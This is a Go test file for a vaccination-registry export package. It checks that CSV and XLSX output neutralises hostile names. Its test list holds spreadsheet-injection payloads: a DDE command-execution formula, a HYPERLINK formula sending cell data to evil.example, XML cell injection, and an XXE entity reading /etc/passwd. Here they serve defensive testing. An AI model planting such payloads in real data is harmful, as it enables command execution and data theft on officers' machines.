package sheet

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"io"
	"regexp"
	"strings"
	"testing"

	"tramy/internal/registry"
)

// hostile are names that somebody gives a child so that an officer's spreadsheet runs something.
var hostile = []string{
	"=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+1", "@SUM(1)", `=HYPERLINK("http://evil.example/?"&A1,"x")`, "＝1+1", "＋1", "－1", "＠x",
	"'=1+1", "''=1", `"=1+1`, `"" =1+1`, `";=1+1;"`, "<f>1+1</f>", "</t></is></c><c><f>1</f></c>", "&xxe;", "]]><f>1</f>", `<!ENTITY x SYSTEM "file:///etc/passwd">`,
}

// A spreadsheet that opens a CSV file runs no cell of it, in whatever way it looks at the cell's beginning.
func TestCSVRunsNothing(t *testing.T) {
	// In files as they are written, before anything is trimmed: blanks and what cannot be seen, too.
	beginnings := append([]string{" =1", "\u00a0=1", "\ufeff=1", "\u200b=1", "\t=1", "\r=1", "\n=1", " \" =1", "\x01=1"}, hostile[:14]...)
	for _, text := range beginnings {
		got := neutral(text)
		if !strings.HasPrefix(got, "'") || got[1:] != text {
			t.Errorf("%q is written as %q", text, got)
		}
	}
	for _, text := range []string{"Lò Thị Mai", "H'Hen Niê", "a=1", "1-2", "", "(=1)"} {
		if got := neutral(text); got != text {
			t.Errorf("%q is written as %q", text, got)
		}
	}
}

func written(t *testing.T, out *bytes.Buffer, f Format, people []Person) {
	t.Helper()
	if err := WriteWide(out, f, each(people), WriteOptions{Vaccines: registry.Vaccines(), Lots: true}); err != nil {
		t.Fatal(err)
	}
}

// sameNames holds that every name comes back as it was.
func sameNames(t *testing.T, data []byte) {
	t.Helper()
	got := roundTrip(t, data, Wide)
	if len(got) != len(hostile) {
		t.Fatalf("%d people", len(got))
	}
	for i, e := range got {
		if e.Subject.Name != hostile[i] || e.Subject.MotherName != hostile[i] {
			t.Errorf("%q came back as %q, the mother as %q", hostile[i], e.Subject.Name, e.Subject.MotherName)
		}
	}
}

func hostilePeople() []Person {
	var out []Person
	for i, name := range hostile {
		p := Person{}
		p.Subject.Name, p.Subject.MotherName = name, name
		p.Subject.BirthDate, p.Subject.BirthPrec = day(2026, 1, 1)+registry.Day(i), registry.PrecisionDay
		out = append(out, p)
	}
	return out
}

func TestHostileNamesInCSVAndBack(t *testing.T) {
	var out bytes.Buffer
	written(t, &out, CSV, hostilePeople())
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(out.Bytes(), []byte("\ufeff")))).ReadAll()
	if err != nil || len(rows) != len(hostile)+1 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
				t.Errorf("a cell begins with %q", cell)
			}
		}
	}
	sameNames(t, out.Bytes())
}

func TestHostileNamesInXLSXAndBack(t *testing.T) {
	var out bytes.Buffer
	written(t, &out, XLSX, hostilePeople())
	z, err := zip.NewReader(bytes.NewReader(out.Bytes()), int64(out.Len()))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		if regexp.MustCompile(`(?i)external|vbaProject|TargetMode|hyperlink`).MatchString(f.Name) {
			t.Errorf("the file has a part %s", f.Name)
		}
		for d := xml.NewDecoder(bytes.NewReader(b)); ; {
			token, err := d.Token()
			if errors.Is(err, io.EOF) {
				break
			}
			if err != nil {
				t.Fatalf("%s is no XML: %v", f.Name, err)
			}
			switch x := token.(type) {
			case xml.Directive:
				t.Errorf("%s declares %s", f.Name, x)
			case xml.StartElement:
				if n := x.Name.Local; n == "f" || n == "hyperlink" || n == "externalReference" || n == "oleObject" {
					t.Errorf("%s has an element %s", f.Name, n)
				}
				for _, a := range x.Attr {
					if a.Name.Local == "TargetMode" || a.Name.Local == "Target" && strings.Contains(a.Value, ":") {
						t.Errorf("%s leads to %s", f.Name, a.Value)
					}
					if x.Name.Local == "c" && a.Name.Local == "t" && a.Value != "inlineStr" {
						t.Errorf("%s has a cell of type %s", f.Name, a.Value)
					}
				}
			}
		}
	}
	sameNames(t, out.Bytes())
}
